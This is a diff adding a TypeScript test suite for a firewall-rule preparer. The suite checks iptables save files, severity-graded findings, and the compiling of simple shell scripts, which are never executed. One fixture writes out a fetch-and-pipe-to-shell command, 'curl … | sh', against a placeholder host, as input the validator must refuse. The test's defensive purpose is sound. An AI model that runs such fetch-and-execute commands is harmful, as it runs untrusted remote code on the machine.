@@ -1,0 +1,49 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { prepareRules } from './prepareRules.ts';
+
+test('a save file is applied as it is; its family comes from the file', () => {
+  const text = '*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -p tcp --dport 22 -j ACCEPT\nCOMMIT\n';
+  const r = prepareRules(text, { fileName: 'rules.v4' });
+  assert.ok(r.ok);
+  assert.deepEqual(r.rules.outputs, [{ family: 'ipv4', text }]);
+  assert.equal(r.rules.source, 'save');
+  const v6 = prepareRules(text, { fileName: '/etc/iptables/rules.v6' });
+  assert.ok(v6.ok);
+  assert.equal(v6.rules.outputs[0].family, 'ipv6');
+});
+
+test('error-level findings refuse, with their lines', () => {
+  const r = prepareRules('*filter\n-A INPUT -p tcp --dport\n-A INPUT -j nowhere\nCOMMIT\n', { fileName: 'rules.v4' });
+  assert.equal(r.ok, false);
+  assert.ok(!r.ok && r.findings.length >= 2 && r.findings.every((f) => f.severity === 'error'));
+  assert.ok(!r.ok && r.line === 2);
+  // a code turned off no longer refuses; one raised to error does
+  const undefinedChain = '*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -j nowhere\nCOMMIT\n';
+  assert.equal(prepareRules(undefinedChain, { fileName: 'rules.v4' }).ok, false);
+  assert.equal(prepareRules(undefinedChain, { fileName: 'rules.v4', severities: { 'undefined-chain': 'off' } }).ok, true);
+  const unused = '*filter\n:INPUT ACCEPT [0:0]\n:spare - [0:0]\nCOMMIT\n';
+  assert.equal(prepareRules(unused, { fileName: 'rules.v4' }).ok, true);
+  assert.equal(prepareRules(unused, { fileName: 'rules.v4', severities: { 'unused-chain': 'error' } }).ok, false);
+});
+
+test('a script is compiled, never run; one that cannot be compiled is refused at its line', () => {
+  const script = '#!/bin/sh\nsysctl -w net.ipv4.ip_forward=1\niptables -P INPUT DROP\niptables -A INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\nip6tables -A INPUT -p tcp --dport 22 -j ACCEPT\n';
+  const r = prepareRules(script, { fileName: 'fw.sh' });
+  assert.ok(r.ok);
+  assert.equal(r.rules.source, 'compiled');
+  assert.deepEqual(r.rules.outputs.map((o) => o.family), ['ipv4', 'ipv6']);
+  assert.match(r.rules.outputs[0].text, /^:INPUT DROP/m);
+  assert.deepEqual(r.rules.forwarding, [{ family: 'ipv4', value: '1' }]);
+
+  const loop = '#!/bin/sh\nfor p in 22 80; do\n  iptables -A INPUT -p tcp --dport $p -j ACCEPT\ndone\n';
+  const refused = prepareRules(loop, { fileName: 'fw.sh' });
+  assert.equal(refused.ok, false);
+  assert.ok(!refused.ok && refused.line === 2);
+
+  const curl = '#!/bin/sh\niptables -A INPUT -j ACCEPT\ncurl http://example.invalid/x | sh\n';
+  const r2 = prepareRules(curl, { fileName: 'fw.sh' });
+  assert.ok(!r2.ok && r2.line === 3);
+
+  assert.equal(prepareRules('#!/bin/sh\necho hello\n', { fileName: 'fw.sh' }).ok, false);
+});
